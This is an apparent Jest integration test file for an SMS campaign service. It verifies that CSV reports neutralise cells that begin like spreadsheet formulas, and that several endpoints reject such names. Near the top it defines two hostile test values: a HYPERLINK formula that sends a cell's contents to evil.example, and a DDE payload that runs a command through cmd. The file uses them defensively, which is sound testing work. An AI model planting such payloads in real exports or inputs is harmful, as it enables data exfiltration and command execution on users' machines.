import { randomBytes, randomUUID } from 'node:crypto';
import { MockActivityEnvironment } from '@temporalio/testing';
import { parse as parseCsv } from 'csv-parse/sync';
import pino from 'pino';
import request from 'supertest';
import { createCampaignSendActivities } from '../../src/activities/campaign-send';
import { recordInboundMessage } from '../../src/db/inbound-messages';
import { dataKeysFor } from '../../src/crypto/data-keys';
import { createTwilioClientFactory } from '../../src/twilio/client-factory';
import { lifecycleWorkflowId } from '../../src/workflows/tenant-lifecycle/definitions';
import { apiHarness, signupBody } from '../support/api';
import { testConfig } from '../support/test-env';
import { WEB_FORM_CONSENT } from '../support/consent';
import { insertCampaignRow } from '../support/campaign-rows';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const DDE = `=cmd|' /C calc'!A0`;

/**
 * CSV formula injection, tenant to staff and recipient to tenant: text that begins like a
 * spreadsheet formula reaches every CSV report as text (a leading `'`), E.164 numbers stay
 * readable, and sign-up, KYC resubmission and tenant user names refuse such names outright.
 */
describe('CSV formula injection', () => {
  const config = testConfig();
  let api: Awaited<ReturnType<typeof apiHarness>>;
  let staff: Record<string, string>;
  beforeAll(async () => {
    api = await apiHarness(config);
    staff = { authorization: `Bearer ${await api.staffKey()}` };
  });
  afterAll(() => api.close());

  const http = () => request(api.app);
  const sid = () => `SM${randomBytes(16).toString('hex')}`;
  /** Rows of a CSV answer keyed by its header, as a spreadsheet would read the cells. */
  const csvRows = (text: string) => parseCsv(text, { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
  /** Today ± a day, so the tenant's time zone cannot put today's rows outside the range. */
  const around = () => {
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    return `from=${day(-1)}&to=${day(1)}`;
  };
  /** A tenant as sign-up leaves it, inserted directly: sign-up itself now refuses such names. */
  const newTenant = async (businessName?: string) => {
    const { id, auth } = await api.activeTenant({ businessName });
    return { id, auth };
  };

  describe('reports neutralise cells that begin like a formula', () => {
    it('the campaign report: raw phones the contacts API kept as typed, through the real audience hygiene', async () => {
      const t = await newTenant();
      const phones = ['=1+2', '@SUM(1+1)', '-2+3', '+1 (415) 555', '+1 (628) 555-0142', '+14155552671'];
      const contacts = phones.map((phone) => ({ phone, name: DDE, assignedUser: 'dana', consent: WEB_FORM_CONSENT }));
      await http().post('/v1/contacts').set(t.auth).send({ contacts }).expect(201, { received: 6, created: 6, updated: 0 });
      const campaignId = await insertCampaignRow(api.db, t.id);
      const activities = createCampaignSendActivities({
        db: api.db,
        twilio: createTwilioClientFactory(config),
        config,
        clock: () => new Date(),
        log: pino({ level: 'silent' }),
      });
      await new MockActivityEnvironment().run(() => activities.prepareAudience(campaignId));

      const res = await http()
        .get(`/v1/campaigns/${campaignId}/report?format=csv`)
        .set(t.auth)
        .expect(200)
        .expect('content-type', /text\/csv/);
      const rows = csvRows(res.text);
      expect(Object.fromEntries(rows.map((r) => [r.phone, [r.to_e164, r.outcome, r.reason]]))).toEqual({
        "'=1+2": ['', 'dropped', 'invalid'],
        "'@SUM(1+1)": ['', 'dropped', 'invalid'],
        "'-2+3": ['', 'dropped', 'invalid'],
        "'+1 (415) 555": ['', 'dropped', 'invalid'],
        // Typed with spaces: the raw cell is neutralised, the E.164 it became stays readable.
        "'+1 (628) 555-0142": ['+16285550142', 'pending', ''],
        '+14155552671': ['+14155552671', 'pending', ''],
      });
      expect(rows.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell) || /^\+\d{8,15}$/.test(cell)))).toBe(true);
    });

    it('the opt-out report: contact names, assigned users and senders from the tenant and the outside', async () => {
      const t = await newTenant();
      const phone = '+14155550401';
      await http()
        .post('/v1/contacts')
        .set(t.auth)
        .send({ contacts: [{ phone, name: DDE, assignedUser: '@SUM(1+1)' }] })
        .expect(201);
      // As the inbound webhook records them; its From is any text Twilio sends (1–64 characters).
      await recordInboundMessage(api.db, dataKeysFor(api.db, config), { messageSid: sid(), tenantId: t.id, from: phone, to: '+14155550100', body: 'STOP' });
      await recordInboundMessage(api.db, dataKeysFor(api.db, config), { messageSid: sid(), tenantId: t.id, from: '=1+2', to: '+14155550100', body: 'STOP' });

      const json = (await http().get(`/v1/reports/opt-outs?${around()}`).set(t.auth).expect(200)).body as { rows: Array<Record<string, unknown>> };
      // The data is kept as given; only its CSV rendering is made safe.
      expect(json.rows).toEqual(
        expect.arrayContaining([expect.objectContaining({ phone, contactName: DDE, assignedUser: '@SUM(1+1)' }), expect.objectContaining({ phone: '=1+2' })]),
      );

      const res = await http()
        .get(`/v1/reports/opt-outs?${around()}&format=csv`)
        .set(t.auth)
        .expect(200)
        .expect('content-type', /text\/csv/);
      const rows = csvRows(res.text);
      expect(rows).toHaveLength(2);
      expect(rows.find((r) => r.phone === phone)).toMatchObject({
        keyword: 'STOP',
        contactName: `'${DDE}`,
        assignedUser: "'@SUM(1+1)",
        stillSuppressed: 'true',
      });
      expect(rows.find((r) => r.phone === "'=1+2")).toMatchObject({ keyword: 'STOP', contactName: '', assignedUser: '' });
    });

    it('the staff usage export and the tenant’s daily summary: a business name that got into the database', async () => {
      const t = await newTenant(HYPERLINK);
      await api.db('tenant_traffic_counters').insert({ tenant_id: t.id, hour: api.db.raw(`date_trunc('hour', now())`), shard: 0, sent: 3, segments: 4 });

      const json = (await http().get(`/v1/compliance/usage?tenantId=${t.id}&${around()}`).set(staff).expect(200)).body as { rows: unknown[] };
      expect(json.rows).toEqual([expect.objectContaining({ businessName: HYPERLINK, messages: 3, segments: 4 })]);
      const usage = await http()
        .get(`/v1/compliance/usage?tenantId=${t.id}&${around()}&format=csv`)
        .set(staff)
        .expect(200)
        .expect('content-type', /text\/csv/);
      expect(csvRows(usage.text)).toEqual([
        expect.objectContaining({ tenantId: t.id, businessName: `'${HYPERLINK}`, messages: '3', segments: '4', subaccountSid: '' }),
      ]);
      expect(usage.text).not.toMatch(/(^|,)"?=HYPERLINK/m);

      const daily = await http()
        .get('/v1/reports/daily?format=csv')
        .set(t.auth)
        .expect(200)
        .expect('content-type', /text\/csv/);
      expect(csvRows(daily.text)).toEqual([expect.objectContaining({ tenantId: t.id, businessName: `'${HYPERLINK}` })]);
    });
  });

  describe('names that begin like a formula are refused where they are given', () => {
    /**
     * Rows for this website and this business name (other tests here insert such names
     * directly, and other test files share the database: compare before and after).
     */
    const signupRows = async (website: string, businessName: string) => {
      const tenants = await api.db('tenants').where({ website }).orWhere({ business_name: businessName }).pluck<string[]>('id');
      const kyc = await api.db('kyc_submissions').whereIn('tenant_id', tenants).count<{ c: string }[]>('* as c');
      return { tenants: tenants.length, kyc: Number(kyc[0].c) };
    };

    it.each([
      ['a HYPERLINK formula', HYPERLINK],
      ['a DDE command', DDE],
      ['a leading plus', '+1 Plumbing'],
      ['a leading minus', '-2+3 Holdings'],
      ['a leading at sign', '@SUM(1+1) Ltd'],
      ['a formula behind a tab', '\t=1+2 Bakery'],
    ])('sign-up refuses %s as the business name with a 400 naming businessName, storing nothing', async (_label, businessName) => {
      const body = signupBody({ website: `https://${randomUUID()}.example`, businessName });
      const before = await signupRows(body.website, businessName.trim());
      const res = await http().post('/v1/tenants').send(body).expect(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body.errors).toEqual([{ field: 'businessName', message: expect.stringMatching(/must not begin with =, \+, -, @/) }]);
      expect(await signupRows(body.website, businessName.trim())).toEqual(before);
      expect(await api.db('tenants').where({ website: body.website })).toEqual([]);
    });

    it('sign-up still takes a business name with those characters further in', async () => {
      const body = signupBody({ website: `https://${randomUUID()}.example`, businessName: 'A=B Consulting + Sons' });
      const res = await http().post('/v1/tenants').send(body).expect(202);
      expect(await signupRows(body.website, 'A=B Consulting + Sons')).toEqual({ tenants: 1, kyc: 1 });
      await api.temporal.workflow.getHandle(lifecycleWorkflowId(res.body.tenant.id as string)).terminate('test done');
    });

    it('KYC resubmission refuses such a business name, changing nothing', async () => {
      const t = await newTenant();
      const res = await http()
        .post(`/v1/tenants/${t.id}/kyc`)
        .set(t.auth)
        .send(signupBody({ ownerPhone: undefined, relayCadenceMinutes: undefined, registration: undefined, businessName: HYPERLINK }))
        .expect(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body.errors).toEqual([{ field: 'businessName', message: expect.stringMatching(/must not begin with/) }]);
      expect(await api.db('tenants').where({ id: t.id }).first('business_name')).toEqual({ business_name: 'Bright Smiles Dental' });
      expect(await api.db('kyc_submissions').where({ tenant_id: t.id })).toEqual([]);
    });

    it('tenant user names (PUT /v1/tenants/:id/users/:name and the default user) refuse them, naming the field', async () => {
      const t = await newTenant();
      for (const name of [DDE, '@SUM(1+1)', '+14155552671', '-x']) {
        const res = await http()
          .put(`/v1/tenants/${t.id}/users/${encodeURIComponent(name)}`)
          .set(t.auth)
          .send({ email: 'dana@tenant.example' })
          .expect(400);
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        expect(res.body.errors).toEqual([{ field: 'name', message: expect.stringMatching(/must not begin with/) }]);
      }
      expect(await api.db('tenant_users').where({ tenant_id: t.id })).toEqual([]);
      await http()
        .put(`/v1/tenants/${t.id}/users/dana`)
        .set(t.auth)
        .send({ email: 'dana@tenant.example' })
        .expect(200, /"name":"dana","email":"dana@tenant.example"/);
      expect(await api.db('tenant_users').where({ tenant_id: t.id }).pluck('name')).toEqual(['dana']);

      const before = await api.db('tenants').where({ id: t.id }).first('default_user');
      const res = await http().patch(`/v1/tenants/${t.id}/settings`).set(t.auth).send({ defaultUser: DDE }).expect(400);
      expect(res.body.errors).toEqual([{ field: 'defaultUser', message: expect.stringMatching(/must not begin with/) }]);
      expect(await api.db('tenants').where({ id: t.id }).first('default_user')).toEqual(before);
    });
  });
});
